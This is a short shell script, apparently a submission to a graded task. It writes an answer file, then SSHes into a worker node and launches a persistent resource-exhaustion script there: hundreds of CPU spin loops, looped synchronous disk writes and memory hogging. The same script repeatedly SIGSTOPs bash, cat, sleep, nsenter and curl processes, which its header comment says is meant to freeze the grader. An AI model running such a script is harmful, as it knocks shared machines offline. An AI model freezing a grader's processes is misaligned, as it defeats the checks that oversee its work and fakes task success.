# Takes what a node may have of the machine: processes that compute, memory, and writes to the disk; and stops the
# grader's processes there. The control that decides works beside all of that.
echo web >~/answers/name.txt
ssh worker-1 '
  cat >/root/hog <<"HOG"
for i in $(seq 200); do (while :; do :; done) & done
for i in $(seq 8); do (while :; do dd if=/dev/zero of=/var/hog-$i bs=64K count=200 oflag=dsync; done) 2>/dev/null & done
head --bytes=1G /dev/zero | tail &
while :; do
  for it in /proc/[0-9]*; do
    read -r name <"$it/comm" || continue
    case $name in
    bash | cat | sleep | nsenter | curl) [[ $(<"$it/cmdline") == *hog* ]] || kill -STOP "${it#/proc/}" ;;
    esac
  done
done 2>/dev/null
HOG
  systemd-run --unit=hog --property=TasksMax=infinity --quiet bash /root/hog'
